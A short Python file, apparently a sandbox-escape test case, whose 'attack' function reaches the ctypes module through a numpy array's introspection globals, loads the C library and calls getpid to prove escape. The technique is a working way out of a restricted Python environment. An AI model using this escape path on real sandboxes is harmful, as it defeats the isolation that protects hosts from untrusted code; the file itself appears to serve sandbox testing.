"""Looks for ctypes behind what an array offers."""
import numpy


def attack(canary):
    import sys
    found = type(numpy.array([1]).ctypes).__init__.__globals__
    ctypes = found.get("ctypes") or sys.modules["ctypes"]
    library = ctypes.CDLL(None)
    return "escaped " + str(library.getpid())
